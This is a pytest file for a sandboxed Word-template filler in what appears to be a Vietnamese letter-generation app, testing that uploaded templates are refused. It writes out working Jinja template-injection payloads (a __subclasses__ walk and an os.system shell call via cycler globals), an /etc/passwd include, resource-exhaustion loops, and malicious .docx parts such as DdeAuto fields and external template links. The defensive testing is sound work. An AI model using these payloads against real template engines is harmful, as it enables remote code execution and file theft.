"""A template is a program that somebody uploads: it gets the listed names, and nothing else."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docxtpl import DocxTemplate
from jinja2 import Environment
from jinja2.sandbox import SecurityError

from app.labels.letters import (
    PLACEHOLDER,
    ROW_PLACEHOLDER,
    TEMPLATE_REFUSAL,
    template_refusal_text,
)
from app.reports import letter_template
from app.reports.letter_template import (
    LINES,
    ROW_NAMES,
    ROWS,
    TEXTS,
    LetterEnvironment,
    TemplateRefusal,
    TemplateRefused,
    fill_template,
)
from app.reports.urging_letter import sample_template, template_values
from app.services import letter_process
from app.services.letter_process import fill_in_process
from app.web.edge import DonDoc
from tests.reports.letters import letter_of, row_of, text_of, word_file

VALUES = template_values(letter_of(3))


def test_the_sample_says_what_the_built_in_letter_says() -> None:
    text = text_of(fill_template(sample_template(), VALUES))
    for words in ("Kính gửi:", "Phòng Kinh tế.", "Báo cáo quý 3", "1. Thủ trưởng", "2. Nhiệm vụ"):
        assert words in text
    assert "{" not in text


def test_what_fills_a_template_is_text_and_never_markup_nor_a_template() -> None:
    row = row_of(1, task='A & B <w:t>x</w:t> "{{ nguoi_ky }}"')
    filled = fill_template(sample_template(), template_values(letter_of(0, rows=[row])))
    assert 'A & B <w:t>x</w:t> "{{ nguoi_ky }}" 1' in text_of(filled)


def test_the_names_on_the_page_are_those_a_template_may_use() -> None:
    assert set(PLACEHOLDER) == {*TEXTS, *LINES, ROWS} == set(VALUES)
    assert set(ROW_PLACEHOLDER) == set(ROW_NAMES)


def test_every_refusal_is_worded(app: DonDoc) -> None:
    assert set(TEMPLATE_REFUSAL) == {refusal.value for refusal in TemplateRefusal}
    with app.test_request_context():
        assert "“mat_khau”" in template_refusal_text("unknown_name", "mat_khau")


COMMAND = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
SHELL = "{{ cycler.__init__.__globals__.os.system('touch PLACE') }}"

HOSTILE = {
    "attributes of a text": (COMMAND, TemplateRefusal.not_allowed, "__"),
    "a shell through a function of Jinja": (SHELL, TemplateRefusal.not_allowed, "os.system"),
    "attributes of a listed name": ("{{ nguoi_ky.__class__ }}", TemplateRefusal.unknown_name, "__"),
    "a method of a listed name": ("{{ nguoi_ky.upper() }}", TemplateRefusal.not_allowed, "upper"),
    "a name that is not listed": ("{{ config }}", TemplateRefusal.unknown_name, "config"),
    "an index": ("{{ nguoi_ky[0] }}", TemplateRefusal.not_allowed, "nguoi_ky"),
    "a filter": ("{{ nguoi_ky|attr('x') }}", TemplateRefusal.not_allowed, "attr"),
    "a product": ("{{ nguoi_ky * 999999999 }}", TemplateRefusal.not_allowed, "mul"),
    "a loop over numbers": (
        "{% for i in range(999999999) %}x{% endfor %}",
        TemplateRefusal.not_allowed,
        "range",
    ),
    "a loop over what is not listed": (
        "{% for i in nguoi_ky %}x{% endfor %}",
        TemplateRefusal.unknown_name,
        "nguoi_ky",
    ),
    "a loop in a loop": (
        "{% for a in nhiem_vu %}{% for b in nhiem_vu %}x{% endfor %}{% endfor %}",
        TemplateRefusal.nested_loop,
        "nhiem_vu",
    ),
    "a field of a row that is not listed": (
        "{% for a in nhiem_vu %}{{ a.__init__ }}{% endfor %}",
        TemplateRefusal.unknown_name,
        "__init__",
    ),
    "another file": ("{% include '/etc/passwd' %}", TemplateRefusal.not_allowed, "include"),
    "a name of its own": ("{% set x = nguoi_ky %}", TemplateRefusal.not_allowed, "assign"),
    "a macro": ("{% macro m() %}{{ m() }}{% endmacro %}", TemplateRefusal.not_allowed, "macro"),
    "a list as it is": ("{{ don_vi_nhan }}", TemplateRefusal.list_without_loop, "don_vi_nhan"),
    "broken braces": ("{{ nguoi_ky }", TemplateRefusal.wrongly_written, "nguoi_ky"),
    "an unknown tag": ("{% nothing %}", TemplateRefusal.wrongly_written, "nothing"),
    "nothing to fill": ("Kính gửi các đơn vị", TemplateRefusal.fills_nothing, ""),
}


@pytest.mark.parametrize(("text", "refusal", "what"), HOSTILE.values(), ids=HOSTILE)
def test_a_template_that_asks_for_anything_else_is_refused_by_name(
    text: str, refusal: TemplateRefusal, what: str
) -> None:
    with pytest.raises(TemplateRefused) as refused:
        fill_template(word_file("{{ nguoi_ky }}" if what else "", text), VALUES)
    assert refused.value.refusal is refusal
    assert what in refused.value.what


def test_a_command_runs_where_nothing_guards_it_and_nowhere_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = tmp_path / "ran"
    template = word_file(SHELL.replace("PLACE", str(place)))
    with pytest.raises(TemplateRefused):
        fill_in_process(template, VALUES)
    with pytest.raises(TemplateRefused):
        fill_template(template, VALUES)
    # The reader away: the sandbox still knows no such function.
    monkeypatch.setattr(letter_template._Reader, "read", lambda *_: None)
    with pytest.raises(TemplateRefused):
        fill_template(template, VALUES)
    assert not place.exists()
    # Both away: the attack is real.
    DocxTemplate(io.BytesIO(template)).render({}, Environment(autoescape=True))
    assert place.exists()


def test_the_sandbox_alone_refuses_what_lies_behind_a_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(letter_template._Reader, "read", lambda *_: None)
    with pytest.raises(SecurityError):
        LetterEnvironment().from_string(COMMAND).render(VALUES)


@pytest.mark.parametrize("part", ["header", "footer"])
def test_headers_and_footers_are_looked_at_too(part: str) -> None:
    from docx import Document

    from tests.reports.letters import saved

    document = Document(io.BytesIO(word_file("{{ nguoi_ky }}")))
    getattr(document.sections[0], part).paragraphs[0].text = "{{ config }}"
    with pytest.raises(TemplateRefused) as refused:
        fill_template(saved(document), VALUES)
    assert refused.value.what == "config"


def _with_member(name: str, content: bytes) -> bytes:
    result = io.BytesIO(word_file("{{ nguoi_ky }}"))
    with zipfile.ZipFile(result, "a") as package:
        package.writestr(name, content)
    return result.getvalue()


_OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External"'
    b' Target="http://192.0.2.1/a.dotm"/></Relationships>'
)


def _part(content: bytes) -> bytes:
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return b'<w:ftr xmlns:w="' + space + b'">' + content + b"</w:ftr>"


PACKAGES: dict[str, tuple[Callable[[], bytes], TemplateRefusal]] = {
    "a macro": (
        lambda: _with_member("word/vbaProject.bin", b"x"),
        TemplateRefusal.has_programs,
    ),
    "an embedded object": (
        lambda: _with_member("word/embeddings/ole.xlsx", b"x"),
        TemplateRefusal.has_programs,
    ),
    "a template fetched when opened": (
        lambda: _with_member("word/_rels/settings.xml.rels", _OUTSIDE),
        TemplateRefusal.reaches_outside,
    ),
    "a link that is none": (
        lambda: _with_member(
            "word/_rels/settings.xml.rels", _OUTSIDE.replace(b"attachedTemplate", b"hyperlink")
        ),
        TemplateRefusal.reaches_outside,
    ),
    "a field that runs a program": (
        lambda: _with_member("word/footer9.xml", _part(b'<w:fldSimple w:instr=" DdeAuto c a "/>')),
        TemplateRefusal.reaches_outside,
    ),
    "a picture fetched by a field in two runs": (
        lambda: _with_member(
            "word/footer9.xml",
            _part(b'<w:instrText>INCLU</w:instrText><w:instrText>DEPICTURE "x"</w:instrText>'),
        ),
        TemplateRefusal.reaches_outside,
    ),
    "another document brought along": (
        lambda: _with_member("word/footer9.xml", _part(b"<w:altChunk/>")),
        TemplateRefusal.reaches_outside,
    ),
    "parts too large": (
        lambda: _with_member("word/big.xml", b" " * (letter_template.MAX_XML + 1)),
        TemplateRefusal.too_large,
    ),
    "no zip": (lambda: b"PK\x03\x04 no zip", TemplateRefusal.unreadable),
    "no Word file": (lambda: _only_content_types(), TemplateRefusal.unreadable),
}


def _only_content_types() -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<w/>")
    return result.getvalue()


@pytest.mark.parametrize(("make", "refusal"), PACKAGES.values(), ids=PACKAGES)
def test_a_package_with_programs_or_links_to_elsewhere_is_refused(
    make: Callable[[], bytes], refusal: TemplateRefusal
) -> None:
    with pytest.raises(TemplateRefused) as refused:
        fill_template(make(), VALUES)
    assert refused.value.refusal is refusal


def test_page_numbers_and_links_that_somebody_follows_are_no_danger() -> None:
    fields = b"<w:fldSimple w:instr='PAGE'/><w:fldChar/><w:instrText>HYPERLINK \"x\"</w:instrText>"
    assert fill_template(_with_member("word/footer9.xml", _part(fields)), VALUES)


def test_a_template_that_keeps_the_machine_busy_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(letter_process, "SECONDS", 2)
    heavy = word_file("{{ nguoi_ky }}", *["{%p for a in nhiem_vu %}" + "{% " * 30_000] * 3)
    with pytest.raises(TemplateRefused) as refused:
        fill_in_process(heavy, VALUES)
    assert refused.value.refusal is TemplateRefusal.too_heavy


def test_the_process_gives_the_document_and_the_reason_of_a_refusal() -> None:
    assert "Hoàng Văn Long" in text_of(fill_in_process(sample_template(), VALUES))
    with pytest.raises(TemplateRefused) as refused:
        fill_in_process(word_file("{{ mat_khau }}"), VALUES)
    assert (refused.value.refusal, refused.value.what) == (TemplateRefusal.unknown_name, "mat_khau")
